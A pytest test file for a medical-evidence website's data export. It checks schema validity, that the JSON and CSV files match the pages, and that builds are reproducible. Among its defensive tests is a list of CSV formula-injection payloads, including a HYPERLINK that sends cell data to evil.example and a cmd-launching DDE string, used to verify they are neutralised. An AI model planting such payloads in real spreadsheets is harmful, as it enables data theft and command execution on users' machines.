"""The data: valid by its own schemas, equal to the pages, nothing in it that is for editors only,
the same on every day.
"""

from __future__ import annotations

import csv
import datetime
import io
import json
import os
import re
import subprocess
import sys
from decimal import ROUND_HALF_UP, Decimal
from pathlib import Path
from urllib.parse import urljoin

import jsonschema
import pytest
import yaml
from bs4 import BeautifulSoup, SoupStrainer
from referencing import Registry
from referencing.jsonschema import DRAFT202012

from conftest import PUBLIC, ROOT, TODAY, cited_in
from guide.build import prepare
from guide.content.loading import load
from guide.content.publication import publication_of
from guide.data.files import data_files
from guide.data.tables import TABLES, harmless

NAMES = (
    "index",
    "topics",
    "statements",
    "trials",
    "approvals",
    "claims",
    "sources",
    "glossary",
    "medicines",
    "conditions",
)


@pytest.fixture(scope="module")
def data(site: Path) -> dict[str, dict]:
    return {
        name: json.loads((site / f"api/v1/{name}.json").read_text(encoding="utf-8"))
        for name in NAMES
    }


@pytest.fixture(scope="module")
def articles(site: Path) -> dict[str, BeautifulSoup]:
    """The main text of every page of a topic or a condition, by address."""
    return {
        f"{path.parent.relative_to(site).as_posix()}/": BeautifulSoup(
            path.read_text(encoding="utf-8"), "lxml", parse_only=SoupStrainer("article")
        )
        for owner in ("*-as", "ankylosing-spondylitis")
        for path in sorted(site.glob(f"{owner}/**/index.html"))
    }


def words(element) -> str:
    return re.sub(r"\s+", " ", element.get_text(" ")).strip()


def one(address: str, articles):
    """The element that an address of the data leads to."""
    path, _, anchor = address.removeprefix(PUBLIC).partition("#")
    found = articles[path].find(id=anchor)
    assert found is not None, address
    return found


# -- form ----------------------------------------------------------------------------------


def schema_of(site: Path, file: dict) -> dict:
    return json.loads((site / "api/v1" / file["$schema"]).read_text(encoding="utf-8"))


def test_every_file_is_valid_by_the_schema_it_names(site, data):
    assert {path.name for path in (site / "api/v1").glob("*.json")} == {
        f"{name}.json" for name in NAMES
    }
    for name, file in data.items():
        schema = schema_of(site, file)
        jsonschema.Draft202012Validator.check_schema(schema)
        jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker()).validate(
            file
        )
        assert (
            file["version"] == data["index"]["version"]
            and file["licence"]["spdx"] == "CC-BY-4.0"
            and file["version"] in file["licence"]["attribution"]
        )
        # What may also stand in several files, by subject, stands in one here.
        split = {
            f"content/{pattern}" for pattern in ("sources/*.yml", "glossary/*.yml", "changes/*.yml")
        }
        assert file["generated_from"] and all(
            any(ROOT.glob(pattern)) for pattern in file["generated_from"] if pattern not in split
        ), name
        assert file["clinically_reviewed"] is False and "not advice" in file["notice"]
    for table in data["index"]["tables"]:
        assert (
            table["records"]
            == data[table["name"]]["count"]
            == len(data[table["name"]][table["name"]])
            > 0
        )
        for path in (table["json"], table["schema"], *table["csv"]):
            assert (site / path.removeprefix(PUBLIC)).is_file(), path


def test_each_schema_names_its_own_address_and_is_found_by_it(site, data, tiny):
    """With a public address the `$id` is that address; without one it is the file's name, which
    from the file's own place is the same place.
    """
    for address, files in (
        (
            PUBLIC,
            {
                path.relative_to(site).as_posix(): path.read_bytes()
                for path in (site / "api/v1").rglob("*.json")
            },
        ),
        ("", {name: raw for name, raw in published(tiny, TODAY).items() if name.endswith(".json")}),
    ):
        base = address or "file:///kept/somewhere/"
        registry = Registry()
        for name, raw in files.items():
            if "/schema/" in name:
                own = json.loads(raw)["$id"]
                assert (
                    own == (f"{address}{name}" if address else name.rpartition("/")[2])
                    and urljoin(base + name, own) == base + name
                )
                registry = registry.with_resource(
                    base + name, DRAFT202012.create_resource(json.loads(raw))
                )
        for name, raw in files.items():
            if "/schema/" not in name:
                file = json.loads(raw)
                validator = jsonschema.Draft202012Validator(
                    {"$ref": urljoin(base + name, file["$schema"])}, registry=registry
                )
                validator.validate(file)
                assert any(True for _ in validator.iter_errors({**file, "licence": None})), name


@pytest.mark.parametrize(
    ("name", "spoil"),
    [
        ("statements", lambda file: file["statements"][0].update(proof="the source's own words")),
        ("statements", lambda file: file["statements"][0].pop("population")),
        ("statements", lambda file: file["statements"][0].update(as_of="soon")),
        (
            "trials",
            lambda file: next(t for t in file["trials"] if t["results"])["results"][0]["arms"][
                0
            ].update(n="93"),
        ),
        ("approvals", lambda file: file["approvals"][0].update(status="probably")),
        ("index", lambda file: file["licence"].update(url=None)),
    ],
)
def test_the_schemas_refuse_what_is_wrong(site, data, name, spoil):
    file = json.loads(json.dumps(data[name]))
    spoil(file)
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.Draft202012Validator(
            schema_of(site, file), format_checker=jsonschema.FormatChecker()
        ).validate(file)


def test_every_name_in_the_data_leads_somewhere(data):
    ids = {name: {record["id"] for record in data[name][name]} for name in NAMES[1:]}
    results = {
        result["id"]: result for trial in data["trials"]["trials"] for result in trial["results"]
    }
    facts = ids["statements"] | set(results) | ids["approvals"]
    index = data["index"]
    for record in [
        *data["statements"]["statements"],
        *results.values(),
        *data["approvals"]["approvals"],
    ]:
        assert set(record["sources"]) <= ids["sources"] and record["sources"], record["id"]
        assert record.get("population", "AS") in index["populations"]
        assert record["medicine"] is None or record["medicine"] in ids["medicines"]
    for record in data["statements"]["statements"]:
        assert set(record["jurisdiction"]) <= set(index["jurisdictions"])
    for record in data["approvals"]["approvals"]:
        assert (
            record["condition"] in ids["conditions"]
            and record["agency"] in index["agencies"]
            and record["jurisdiction"] in index["jurisdictions"]
        )
    for claim in data["claims"]["claims"]:
        assert set(claim["facts"]) <= facts and claim["topic"] in ids["topics"]
    for trial in data["trials"]["trials"]:
        assert set(trial["statements"]) <= ids["statements"]


def cell(value: object) -> str:
    if isinstance(value, list):
        return "; ".join(value)
    return "" if value is None else str(value).lower() if isinstance(value, bool) else str(value)


def test_csv_holds_the_same_cells_as_json(site, data):
    def sheet(name: str) -> list[dict[str, str]]:
        raw = (site / f"api/v1/{name}.csv").read_bytes()
        assert raw.endswith(b"\r\n")
        rows = list(csv.DictReader(io.StringIO(raw.decode(), newline="")))
        licence = "CC-BY-4.0, except the column claim" if name == "claims" else "CC-BY-4.0"
        # Only in CSV a text that starts like a formula has an apostrophe before it.
        rows = [
            {name: re.sub(r"^'(?=[=+\-@\t\r\n])", "", value) for name, value in row.items()}
            for row in rows
        ]
        assert rows and all(
            row.pop("version") == data["index"]["version"] and row.pop("licence") == licence
            for row in rows
        )
        return rows

    def flat(record: dict, *leave: str) -> dict[str, str]:
        return {name: cell(value) for name, value in record.items() if name not in leave}

    leave = {"topics": ("gaps",), "statements": ("values",), "trials": ("results",)}
    for name in NAMES[1:]:
        assert sheet(name) == [flat(record, *leave.get(name, ())) for record in data[name][name]], (
            name
        )
    results = [result for trial in data["trials"]["trials"] for result in trial["results"]]
    # No trial of this guide is of a test: its columns for accuracy are empty.
    assert all(result["accuracy"] is None for result in results)
    rows = sheet("results")
    accuracy = [name for name in rows[0] if name not in results[0]]
    assert {"sensitivity", "specificity_high"} <= {*accuracy}
    assert rows == [
        {**flat(result, "arms", "contrasts", "accuracy"), **dict.fromkeys(accuracy, "")}
        for result in results
    ]
    assert sheet("contrasts") == [
        {"result": result["id"], **flat(contrast)}
        for result in results
        for contrast in result["contrasts"]
    ]
    assert sheet("arms") == [
        {"result": result["id"], "place": str(place), **flat(arm)}
        for result in results
        for place, arm in enumerate(result["arms"], 1)
    ]
    assert sheet("values") == [
        {"statement": record["id"], "name": name, **flat(value)}
        for record in data["statements"]["statements"]
        for name, value in record["values"].items()
    ]


FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"see")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "- an item of a list",
    "\uff1d1+1",
    "-4 to -2",
)
NUMERALS = ("-3", "+2.5", "-0.4", "12", "")


def test_a_text_that_starts_like_a_formula_is_made_harmless_and_a_number_is_left_alone():
    assert [harmless(text) for text in FORMULAS] == [f"'{text}" for text in FORMULAS]
    assert [harmless(text) for text in NUMERALS] == list(NUMERALS)
    assert [harmless(value) for value in (-3, 2.5, None, True)] == [-3, 2.5, None, True]
    assert [harmless(text) for text in ("a = b", "4 mg", "'quoted'", "−1.2 points")] == [
        "a = b",
        "4 mg",
        "'quoted'",
        "−1.2 points",
    ]


def test_no_cell_of_a_csv_file_can_start_a_formula(site):
    """Every cell of every file of the real guide, its differences below nothing among them."""
    negative = 0
    for path in sorted((site / "api/v1").glob("*.csv")):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")):
            for value in row:
                number = re.fullmatch(r"[+-]?\d+(\.\d+)?", value)
                negative += bool(number) and value.startswith("-")
                assert number or not re.match(r"[=+\-@\t\r\n\0]", value), (path.name, value[:60])
    assert negative > 0, "no number below nothing: the test looks at nothing"


def test_hostile_text_of_every_table_stays_text_in_a_spreadsheet_and_whole_in_json(tiny):
    """A formula in a title, a wording, a name and a term, through the whole way from YAML to the
    files.
    """
    formula = '=HYPERLINK("https://evil.example/","see")'
    for name, old in (
        ("sources.yml", r"(?m)^(\s+(?:- )?title: ).*$"),
        ("glossary.yml", r"(?m)^(\s+patient: ).*$"),
        ("trials/other-trial.yml", r"(?m)^(name: ).*$"),
        ("topics/examplinib-ed/claims.yml", r"(?m)^(\s+claim: ).*$"),
    ):
        path = tiny / "content" / name
        text, count = re.subn(
            old, lambda match: match[1] + json.dumps(formula), path.read_text(), count=1
        )
        assert count == 1, name
        path.write_text(text)
    built = prepare(tiny, TODAY, release=False)
    files = data_files(built.library, built.pages, publication_of(built.library, tiny))
    for name in ("sources", "glossary", "trials", "claims"):
        cells = [
            value
            for row in csv.reader(io.StringIO(files[f"api/v1/{name}.csv"].decode(), newline=""))
            for value in row
        ]
        assert f"'{formula}" in cells and formula not in cells, name
        assert formula in [value for _, value in walk(json.loads(files[f"api/v1/{name}.json"]))], (
            name
        )


def test_nothing_for_editors_gets_out(site, data):
    """No field for it, and no phrase of a source's own words that the guide's own wording does not
    hold.
    """
    library = load(ROOT)
    files = {
        path.name: path.read_text(encoding="utf-8")
        for path in (site / "api").rglob("*")
        if path.is_file()
    }
    assert not [
        name
        for name, text in files.items()
        if re.search(r'"(proof|note|notes|reading)"|,(proof|note|reading)(,|\r)', text)
    ]
    raw = "\n".join(files.values())
    looked = 0
    for record in library.records.values():
        for phrase in filter(None, (record.proof, record.note, record.reading)):
            ours = " ".join(
                str(value)
                for value in record.model_dump(exclude={"proof", "note", "reading"}).values()
            )
            # A title is a source's own words, and is cited.
            if (
                len(phrase) > 60
                and phrase not in ours
                and not any(phrase in source.title for source in library.sources.values())
            ):
                looked += 1
                assert phrase not in raw, record.id
    assert looked > 80


# -- the same numbers as the pages ---------------------------------------------------------


def shown(number: float | int, places: int = 1) -> str:
    return str(Decimal(str(number)).quantize(Decimal(1).scaleb(-places), ROUND_HALF_UP))


def signed(number: str) -> str:
    return ("+" if float(number) > 0 else "") + number.replace("-", "−")


def against(contrast: dict) -> str:
    """The difference of an arm from its comparator with its interval, as a page writes it; "" where
    there is no interval.
    """
    if contrast["interval_low"] is None:
        return ""
    numbers = [contrast[key] for key in ("difference", "interval_low", "interval_high")]
    # As many digits as the longest has: enough that no end of an interval reads 0.0.
    digits = max(len(f"{number}".partition(".")[2]) for number in numbers)
    difference, low, high = (signed(f"{number:.{max(1, digits)}f}") for number in numbers)
    return f"{difference} points ({low} to {high})"


def needed(contrast: dict) -> str:
    """The number needed to treat or to harm with its interval, as a page writes it; "" where
    neither is given.
    """
    name = next((name for name in ("nnt", "nnh") if contrast[name]), None)
    return (
        f"{name.upper()} {contrast[name]:,}"
        f" ({contrast[f'{name}_low']:,} to {contrast[f'{name}_high']:,})"
        if name
        else ""
    )


def test_results_equal_the_clinicians_pages(data, articles):
    """Counts, percentages, difference, interval and number needed to treat, for every result a page
    shows.
    """
    compared = 0
    for result in (result for trial in data["trials"]["trials"] for result in trial["results"]):
        assert result["clinician_page"], result["id"]
        row = one(result["clinician_page"], articles)
        compared += 1
        if row.name != "tr":
            # A result that stands in a line of a comparison, not in a trial's table.
            line = words(row)
            for arm in result["arms"]:
                assert (
                    f"{arm['responders']:,}/{arm['n']:,} ({shown(arm['percent'])}%)"
                    if arm["responders"]
                    else f"{shown(arm['percent'])}%"
                ) in line, (result["id"], line)
            for one_arm in result["contrasts"]:
                assert against(one_arm) in line and needed(one_arm) in line, (result["id"], line)
            continue
        arms = [words(item) for item in row.select("ul.arms > li")]
        assert len(arms) == len(result["arms"])
        for text, arm in zip(arms, result["arms"], strict=True):
            if arm["responders"]:
                assert (
                    f"{arm['responders']:,}/{arm['n']:,}" in text
                    and f"({shown(arm['percent'])}%)" in text
                ), (result["id"], text)
                assert ("worked out from the percentage" in text) == arm["responders_derived"]
            else:
                assert f"{shown(arm['percent'])}%" in text, (result["id"], text)
        cells = {td["data-label"]: words(td) for td in row.find_all("td")}
        for label, said_of in (
            (
                "Difference (95% interval)",
                lambda one_arm: (
                    against(one_arm)
                    or f"{signed(shown(one_arm['difference']))} points;"
                    " interval not computed, counts not known"
                ),
            ),
            ("NNT or NNH", lambda one_arm: needed(one_arm) or "not given"),
        ):
            names = [
                (
                    f"{one_arm['arm']} v {one_arm['comparator']}: "
                    if len(result["contrasts"]) > 1
                    else ""
                )
                for one_arm in result["contrasts"]
            ]
            if label == "NNT or NNH" and label not in cells:
                # A table has the column where a row has a number for it.
                assert not any(map(needed, result["contrasts"])), result["id"]
                continue
            assert cells[label] == " ".join(
                name + said_of(one_arm)
                for name, one_arm in zip(names, result["contrasts"], strict=True)
            ), (result["id"], cells[label])
        assert (result["difference"], result["interval_low"], result["nnt"]) == tuple(
            result["contrasts"][0][name] for name in ("difference", "interval_low", "nnt")
        )
        time = (
            f"week {result['week']}"
            if result["week"] is not None
            else result["follow_up"]
            if result["follow_up"]
            else "time not known"
        )
        assert time.replace("\xa0", " ") in words(row.th), (result["id"], time)
        assert (result["certainty"] or "not rated") in cells["Certainty"].lower()
        assert cited_in(row) == set(result["sources"])
    assert compared == sum(len(trial["results"]) for trial in data["trials"]["trials"]) > 30


def test_results_equal_the_patients_pages(data, articles):
    """Out of how many people, from the counts; the sentence that says what the outcome means."""
    compared = 0
    for result in (result for trial in data["trials"]["trials"] for result in trial["results"]):
        if result["clinician_only"]:
            assert (
                result["patient_page"] is None or one(result["patient_page"], articles).name != "tr"
            )
            continue
        row = one(result["patient_page"], articles)
        if row.name == "tr":
            cells = {td["data-label"]: td for td in row.find_all("td")}
            assert result["outcome"] in re.sub(r"\s+", " ", row.th.get_text())
            shares = [words(item) for item in cells["In each group"].select("li")]
            assert all(
                arm["arm"] in share for arm, share in zip(result["arms"], shares, strict=True)
            ), shares
        else:
            shares = re.findall(r"[\d,]+ out of [\d,]+", words(row))
        for arm, share in zip(result["arms"], shares, strict=True):
            text = re.search(r"[\d,]+ out of [\d,]+", share)[0]
            people = int(re.search(r"out of ([\d,]+)", text)[1].replace(",", ""))
            exact = (
                Decimal(arm["responders"]) / arm["n"]
                if arm["responders"] is not None
                else Decimal(str(arm["percent"])) / 100
            )
            assert int(re.match(r"([\d,]+) out of", text)[1].replace(",", "")) == int(
                (exact * people).quantize(Decimal(1), ROUND_HALF_UP)
            ), (result["id"], text)
        compared += 1
    assert compared > 25


def said(element) -> str:
    """A statement's own words, the items of its list among them, without its country, its citations
    and its link.
    """
    text = BeautifulSoup(str(element.select_one(".statement__text")), "lxml")
    for extra in text.select(".country, sup.cites, .permalink"):
        extra.decompose()
    items = [f"- {item.get_text()}" for item in element.select(".statement__list > li")]
    return re.sub(r"\s+", " ", " ".join([text.get_text(), *items])).strip()


@pytest.mark.parametrize("track", ["patient", "clinician"])
def test_statements_equal_the_pages(data, articles, track):
    """Every wording with its values, word for word; doses with their countries among them."""
    compared = doses = 0
    for record in data["statements"]["statements"]:
        address = record[f"{track}_page"]
        if address is None:
            continue
        element = one(address, articles)
        if not element.select_one(".statement__text"):
            continue
        expected = re.sub(r"\s+", " ", record[track])
        assert said(element) == expected, record["id"]
        # Each number that the page sets as a value is one of the record's values, as the data shows
        # it.
        own = {re.sub(r"\s+", " ", value["shown"]) for value in record["values"].values()}
        for span in element.select(".statement__text .value:not([data-record])"):
            assert re.sub(r"\s+", " ", span.get_text()) in own, (record["id"], span)
        if record["kind"] == "dosing":
            doses += 1
            group = element.find_parent(class_="by-country__group")
            place = words(element.select_one(".country") or group.select_one(".by-country__name"))
            assert all(
                data["index"]["jurisdictions"][code] in place for code in record["jurisdiction"]
            ), (record["id"], place)
        compared += 1
    assert compared > 180 and doses > 5
    missing = [
        record["id"]
        for record in data["statements"]["statements"]
        if record[track] and not record[f"{track}_page"]
    ]
    assert len(missing) < 12, missing


def test_approvals_equal_the_matrix(data, articles):
    compared = 0
    for record in data["approvals"]["approvals"]:
        cell = one(record["clinician_page"], articles) if record["clinician_page"] else None
        if cell is None or cell.name != "td":
            continue
        assert words(cell.select_one(".status")).lower() == record["status"], record["id"]
        assert words(cell.select_one(".status__checked")) == f"looked up {day(record['checked'])}"
        date = cell.select_one(".status__date")
        assert (words(date).removeprefix("announced ") if date else None) == (
            day(record["date"]) if record["date"] else None
        ), record["id"]
        assert f"({record['agency']})" in cell["data-label"]
        compared += 1
    assert compared > 40
    assert not [
        record
        for record in data["approvals"]["approvals"]
        if record["medicine"] == "baricitinib"
        and record["condition"] == "ankylosing-spondylitis"
        and record["status"] == "approved"
    ]


def day(date: str) -> str:
    parts = [int(part) for part in date.split("-")]
    month = datetime.date(2000, parts[1], 1).strftime("%B")
    return f"{parts[2]} {month} {parts[0]}" if len(parts) == 3 else f"{month} {parts[0]}"


def test_claims_and_topics_equal_the_pages(data, articles):
    for claim in data["claims"]["claims"]:
        item = one(claim["page"], articles)
        text = re.sub(r"\s+", " ", item.get_text())
        assert (
            claim["claim"] in text
            and f"claim--{claim['verdict']}" in item["class"]
            and claim["why"] in text
        ), claim["id"]
    assert len(data["claims"]["claims"]) == 117
    for topic in data["topics"]["topics"]:
        dates = {
            words(entry.dt): words(entry.dd)
            for entry in articles[f"{topic['id']}/patients/dosing/"].select("dl.dates > div")
        }
        assert (
            dates["Published"] == day(topic["published"])
            and dates["Next review due"] == day(topic["next_review"])
            and dates["Evidence searched to"] == day(topic["evidence_searched_to"])
        )
        assert topic["reviewers"] == [] and dates["Last full review"] == topic["no_full_review"]


# -- the same bytes ------------------------------------------------------------------------


def published(project: Path, today: datetime.date, address: str = "") -> dict[str, bytes]:
    built = prepare(project, today)
    return data_files(built.library, built.pages, publication_of(built.library, project, address))


def test_the_same_content_gives_the_same_bytes_on_another_day(tiny):
    first = published(tiny, TODAY)
    assert published(tiny, TODAY + datetime.timedelta(days=90)) == first
    path = tiny / "content/medicines/examplinib/dosing.yml"
    path.write_text(path.read_text().replace("In the United States", "In the US"))
    assert (
        json.loads(published(tiny, TODAY)["api/v1/index.json"])["version"]
        != json.loads(first["api/v1/index.json"])["version"]
    )


def test_what_is_noted_at_a_publication_is_no_new_version(tiny):
    before = publication_of(load(tiny), tiny).version
    (tiny / "content/ledger.json").write_text("{}")
    assert publication_of(load(tiny), tiny).version == before


def test_with_a_public_address_every_address_is_whole(tiny):
    files = published(tiny, TODAY, "https://guide.example.org")
    for name, raw in files.items():
        if name.endswith(".json") and "/schema/" not in name:
            for key, value in walk(json.loads(raw)):
                if key in (
                    "patient_page",
                    "clinician_page",
                    "page",
                    "patients",
                    "clinicians",
                    "corrections",
                    "json",
                    "schema",
                    "csv",
                ) and isinstance(value, str):
                    assert value.startswith("https://guide.example.org/"), (name, key, value)
    assert b"https://guide.example.org/examplinib-ed/" in files["api/v1/statements.json"]


def walk(value: object, key: str = ""):
    yield key, value
    if isinstance(value, dict):
        for name, inner in value.items():
            yield from walk(inner, name)
    if isinstance(value, list):
        for inner in value:
            yield from walk(inner, key)


# -- what people read about it -------------------------------------------------------------


def test_the_three_lines_of_the_readme_work_and_are_the_pages(address, data, site):
    block = re.search(
        r"## Data\n.*?```python\n(.*?)```", (ROOT / "README.md").read_text(encoding="utf-8"), re.S
    )[1]
    assert len(block.strip().splitlines()) == 3
    environment = {
        name: value for name, value in os.environ.items() if not name.lower().endswith("_proxy")
    }
    done = subprocess.run(
        [sys.executable, "-c", block.replace("http://127.0.0.1:8000/", address)],
        env=environment,
        text=True,
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    lines = done.stdout.strip().splitlines()
    assert len(lines) == sum(
        result["kind"] == "counts" and bool(result["contrasts"])
        for trial in data["trials"]["trials"]
        for result in trial["results"]
    )
    assert "upadacitinib, ASAS40: +26.1 points" in lines
    page = BeautifulSoup((site / "about/data/index.html").read_text(encoding="utf-8"), "lxml")
    assert (
        page.select_one("article pre").get_text().strip().replace(PUBLIC, "http://127.0.0.1:8000/")
        == block.strip()
    )
    hrefs = {
        link["href"]
        for link in page.select("article .data-tables a")
        if not link["href"].startswith("#")
    }
    assert hrefs == {f"../../api/v1/{table.name}.json" for table in TABLES} | {
        f"../../api/v1/schema/{table.name}.json" for table in TABLES
    } | {f"../../api/v1/{sheet}.csv" for table in TABLES for sheet in table.sheets}


def test_code_and_content_each_have_their_licence(site):
    code, content = (ROOT / "LICENSE").read_text(), (ROOT / "LICENSE-content").read_text()
    publisher = yaml.safe_load((ROOT / "content/site.yml").read_text())["publisher"]["name"]
    assert (
        code.startswith("MIT License\n\nCopyright (c) 2026 " + publisher)
        and "WITHOUT WARRANTY OF ANY KIND" in code
    )
    assert (
        re.findall(r"^Section (\d) – ", content, re.M) == list("12345678")
        and "Creative Commons Attribution 4.0 International Public License" in content
    )
    assert publisher in " ".join(content.split("---")[0].split())
    about = BeautifulSoup((site / "about/index.html").read_text(encoding="utf-8"), "lxml").article
    assert "CC BY 4.0" in words(about) and "MIT License" in words(about)
    assert about.find("a", rel="license")["href"] == "https://creativecommons.org/licenses/by/4.0/"
    cff = yaml.safe_load((ROOT / "CITATION.cff").read_text())
    assert (
        cff["authors"] == [{"name": publisher}]
        and cff["license"] == ["MIT", "CC-BY-4.0"]
        and cff["title"] == yaml.safe_load((ROOT / "content/site.yml").read_text())["name"]
    )
    import tomllib

    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    assert (
        project["license"] == "MIT AND CC-BY-4.0"
        and project["version"] == cff["version"]
        and all((ROOT / name).is_file() for name in project["license-files"])
    )
